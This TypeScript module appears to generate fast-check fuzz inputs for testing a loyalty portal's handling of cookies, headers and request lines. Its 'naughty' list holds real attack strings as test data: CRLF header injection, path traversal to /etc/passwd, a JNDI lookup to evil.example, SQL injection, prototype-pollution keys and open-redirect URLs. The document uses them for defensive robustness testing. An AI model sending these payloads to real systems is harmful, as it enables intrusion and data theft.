import fc from 'fast-check';
import { header } from 'loyalty-contract/headers';

const naughty = [
  '',
  ' ',
  'a%0d%0ab',
  '%0d%0aSet-Cookie:%20x=y',
  '%e2%82%ac',
  '%f0%9f%98%80',
  '%00',
  '%ff',
  '%',
  '%zz',
  '%ed%a0%80',
  'a\u0000b',
  '\u00e9\u00fc',
  '\u00c3\u0080',
  '"',
  '{',
  '{"code":"tr"}',
  '%7B%22code%22%3A%22..%2F..%2Fx%22%7D',
  '%7B%22__proto__%22%3A1%7D',
  '__proto__',
  '../../../etc/passwd',
  '..%2f..%2fadmin',
  '${jndi:ldap://evil.example}',
  "' or 1=1 --",
  'https://evil.example/',
  '//evil.example',
  'a.b.c.d.e',
  'eyJhbGciOiJkaXIifQ..AAAA.BBBB.CCCC',
  'x'.repeat(3_000),
  '9007199254740993',
  '-1',
  '1e309',
  'NaN',
  'true',
];
/** Text that is invalid in every part of a request. */
export const junk = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...naughty) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 40 }).map((bytes) => Buffer.from(bytes).toString('latin1')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }).map(percentEncoded) },
);

function percentEncoded(text: string): string {
  return [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
}

/** Cookies that the portal reads, and some that it must ignore. */
export const cookieNames = [
  ...['lp.sid', 'lp.csrf', 'lp.cb', 'lp.browser', 'lp.ended', 'lp.sid.0', 'lp.sid.9'].flatMap((name) => [
    name,
    `__Host-${name}`,
  ]),
  'SelectedLanguage',
  'SelectedCountry',
  'cc_cookie',
  '__proto__',
];
/** Headers that mean something to the portal, Next, next-auth or a proxy. */
export const headerNames = [
  ...Object.values(header),
  'accept',
  'accept-encoding',
  'content-type',
  'expect',
  'forwarded',
  'if-modified-since',
  'if-none-match',
  'next-router-state-tree',
  'next-url',
  'origin',
  'purpose',
  'range',
  'referer',
  'rsc',
  'sec-fetch-dest',
  'sec-fetch-mode',
  'sec-fetch-site',
  'stripe-signature',
  'user-agent',
  'x-forwarded-for',
  'x-forwarded-proto',
  'x-http-method-override',
  'x-lp-client-address',
  'x-middleware-subrequest',
  'x-nextjs-data',
];
/** Characters that a decoded cookie may contain but a header may not. */
export const undecodable = naughty.filter((text) => text.includes('%'));

/** The part of a text that fits a request line: a space or line break would end it. */
export const toRequestTarget = (text: string) => text.replaceAll(/[\u0000-\u0020\u007f]/g, '_');
/** The part of a text that fits a header line: everything but a line break. */
export const toHeaderValue = (text: string) => text.replaceAll(/[\r\n]/g, '_');
